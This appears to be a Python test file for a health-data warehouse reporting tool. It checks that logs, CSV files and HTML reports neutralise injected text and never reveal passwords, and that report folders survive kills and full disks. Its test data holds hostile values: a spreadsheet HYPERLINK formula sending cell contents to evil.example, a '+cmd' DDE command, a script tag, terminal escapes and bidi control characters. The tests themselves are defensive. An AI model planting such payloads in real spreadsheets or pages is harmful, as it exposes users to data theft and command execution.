"""What leaves the warehouse, and what is said on the way: no place, secret or half set."""

import csv
import io
import random
import re
import time
from contextlib import suppress
from multiprocessing import get_context
from pathlib import Path

import pytest

from tests.support.command_line import Finished, Site
from tests.support.rewriting import NAMES, rewrite
from tests.support.small_disk import fill, small_disk

SECRET = "Zx9/t'p\"4%2"
#: The same as a run file, JSON, SQL, a URL or a page would write it.
TRACES = re.compile(r"Zx9|zx9", re.IGNORECASE)
#: What no line of a log, cell or page may hold.
HOSTILE = re.compile("[\0-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]")
TEXTS = {
    "cdm_source_name": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "cdm_version": "@SUM(1)\x1b[2J\x1b[31m\nerror: FAKE",
    "vocabulary_version": "+cmd|'/c calc'!A0\u202e\u2028\x9b31m\r<script>alert(1)</script>",
}
PLACES = {
    "postgresql": {"application_name": "swanwatch"},
    "spark": {
        "scratch": "/mnt/internal-nas/patients",
        "settings": {
            "spark.master": "spark://whale.hospital.internal:7077",
            "spark.hadoop.account.pwd": "hunter2",
            "spark.hadoop.javax.jdo.option.ConnectionPWD": "hunter3",
            "spark.datasource.url": "jdbc:x://u:hunter4@h",
        },
    },
}


def report(site: Site, folder: Path) -> dict[str, str]:
    """Return the text of every file of a report; the page holds its pictures as text."""
    page = site.folder / "page.html"
    done = site.run("--output", page, "--csv", folder, command="report")
    assert done.returncode == 0, done.stderr
    text = page.read_text(encoding="utf-8")
    files = {path.name: path.read_text(encoding="utf-8") for path in folder.iterdir()}
    return {**files, "page": text}


def assert_tame(*finished: Finished) -> None:
    for text in (part for each in finished for part in (each.stdout, each.stderr)):
        assert not HOSTILE.search(text), HOSTILE.search(text)
        assert not re.search("^error: FAKE", text, re.MULTILINE)


def test_hostile_texts_of_a_cdm_in_every_output(site: Site) -> None:
    columns = ", ".join(
        "{} = '{}'".format(name, text.replace("'", "''")) for name, text in TEXTS.items()
    )
    site.change(f"UPDATE cdm_source SET {columns}")
    finished = [
        site.run("--log-format", "text", **PLACES),
        *(site.run(command=command) for command in ("check", "runs", "status")),
        site.run("previous", "latest", command="diff"),
        site.run("--format", "csv", command="runs"),
        site.run("--dry-run", "--log-format", "json"),
    ]
    assert [each.returncode for each in finished] == [0] * len(finished)
    assert_tame(*finished)
    assert r"\x1b[2J" in finished[1].stdout
    (truth,) = site.rows(f"SELECT {', '.join(TEXTS)} FROM latest_run")
    assert truth == tuple(TEXTS.values())
    files = report(site, site.folder / "figures")
    for name, text in files.items():
        assert not HOSTILE.search(text), name
        assert not re.search("evil|c calc|<script|hunter|internal|whale|swan|cdm\\.duckdb", text), (
            name
        )
        if name.endswith(".csv"):
            cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
            assert not [c for c in cells if re.match(r"[=+\-@\t\r]", c) and not _is_number(c)], name
    ((stored,), *_) = site.rows("SELECT config_json FROM scoring_run ORDER BY run_id DESC")
    assert "hunter" not in stored
    assert "whale.hospital.internal" in stored


def _is_number(text: str) -> bool:
    return bool(re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", text))


def test_a_secret_is_said_nowhere(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    """The value that a driver reads as a password stands in keys where nobody looks for it."""
    monkeypatch.setenv("PGPASSWORD", SECRET)
    keys = {
        "postgresql": {"application_name": SECRET},
        "spark": {"settings": {"spark.app.name": f"a {SECRET} b"}},
    }
    good = site.run("--log-format", "json", **keys)
    assert good.returncode == 0, good.stderr
    finished = [good]
    failing = {**keys, "cdm": {"tables": {"person": SECRET}}}
    for log_format in ("text", "json"):
        finished.append(site.run("--log-format", log_format, **failing))
        finished.append(site.run("--log-format", log_format, command="check", **failing))
    finished += [site.run(command=command, **keys) for command in ("runs", "status")]
    said = "\n".join(each.stdout + each.stderr for each in finished)
    assert "cdm.tables maps it to ***" in said
    assert not TRACES.search(said)
    kept = site.rows("SELECT config_json FROM scoring_run UNION ALL "
                     "SELECT message FROM scoring_run_status")  # fmt: skip
    text = "\n".join(str(each) for (each,) in kept)
    assert "maps it to ***" in text
    assert "***" in text
    assert not TRACES.search(text)
    assert not TRACES.search("\n".join(report(site, site.folder / "figures").values()))


def test_a_password_file_is_read_and_never_said(site: Site) -> None:
    (site.folder / "secret").write_text("open-Sesame-7\n", encoding="utf-8")
    server = "postgresql://user@127.0.0.1:1/database"
    keys = {"postgresql": {"application_name": "open-Sesame-7", "retries": 0}}
    cdm = {"url": server, "password_file": str(site.folder / "secret")}
    done = site.run(cdm=cdm, **keys)
    assert done.returncode == 11, done.stderr
    assert "open-Sesame" not in done.stderr + done.stdout


# ---- The folder of the figures ----


def test_a_killed_program_leaves_a_whole_set_or_nothing(tmp_path: Path) -> None:
    folder = tmp_path / "figures"
    folder.mkdir()
    (folder / "notes.txt").write_text("mine")
    n_whole = 0
    for number in range(8):
        process = get_context("forkserver").Process(target=rewrite, args=(folder, f"set {number}"))
        process.start()
        while process.is_alive() and not _is_of(folder, f"set {number} "):
            time.sleep(0.01)
        time.sleep(random.Random(number).random() / 10)
        process.kill()
        process.join()
        if folder.exists():
            texts = {path.name: path.read_text() for path in folder.glob("*.csv")}
            assert (texts.keys(), len({*texts.values()})) == (NAMES, 1), texts
            assert (folder / "notes.txt").read_text() == "mine"
            n_whole += 1
    assert n_whole


def _is_of(folder: Path, text: str) -> bool:
    with suppress(FileNotFoundError):
        return (folder / "0.csv").read_text().startswith(text)
    return False


def test_a_full_disk_leaves_the_older_set(site: Site, tmp_path: Path) -> None:
    disk = tmp_path / "disk"
    disk.mkdir()
    with small_disk(disk, 8) as mounted:
        if not mounted:
            pytest.skip("no disk can be mounted here")
        folder = disk / "figures"
        assert site.run("--csv", folder, command="report").returncode == 0
        before = {path.name: path.read_bytes() for path in folder.iterdir()}
        (folder / "change.csv").write_text("of an older report")
        fill(disk / "filler", 40_000)
        done = site.run("--csv", folder, command="report")
        assert done.returncode == 15
        assert "No space left" in done.stderr
        (folder / "change.csv").unlink()
        assert {path.name: path.read_bytes() for path in folder.iterdir()} == before
        (disk / "filler").unlink()
        assert site.run("--csv", folder, command="report").returncode == 0
        assert {path.name for path in folder.iterdir()} == before.keys()
        assert [path.name for path in disk.iterdir()] == ["figures"]
        assert site.run("--csv", disk, command="report").returncode == 15
